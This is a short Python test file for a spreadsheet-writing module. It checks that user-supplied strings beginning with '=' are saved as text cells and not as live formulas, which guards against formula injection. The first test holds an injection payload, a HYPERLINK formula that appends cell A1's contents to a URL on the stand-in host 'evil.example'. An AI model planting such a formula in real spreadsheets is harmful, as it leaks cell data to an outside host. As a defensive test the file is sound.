from openpyxl import Workbook, load_workbook

from pkk.xlsx import put, text_cell


def test_user_text_is_written_as_text_not_formula(tmp_path):
    wb = Workbook()
    ws = wb.active
    put(ws, 1, 1, '=HYPERLINK("http://evil.example/?q="&A1,"klik")')
    put(ws, 1, 2, 12)
    wb.save(tmp_path / "a.xlsx")
    back = load_workbook(tmp_path / "a.xlsx").active
    assert back["A1"].data_type == "s"
    assert back["A1"].value.startswith("=HYPERLINK")
    assert back["B1"].value == 12 and back["B1"].data_type == "n"


def test_write_only_rows_keep_text(tmp_path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append([text_cell(ws, v) for v in ["=1+1", "Sri", 3]])
    wb.save(tmp_path / "b.xlsx")
    row = next(load_workbook(tmp_path / "b.xlsx").active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [("=1+1", "s"), ("Sri", "s"), (3, "n")]
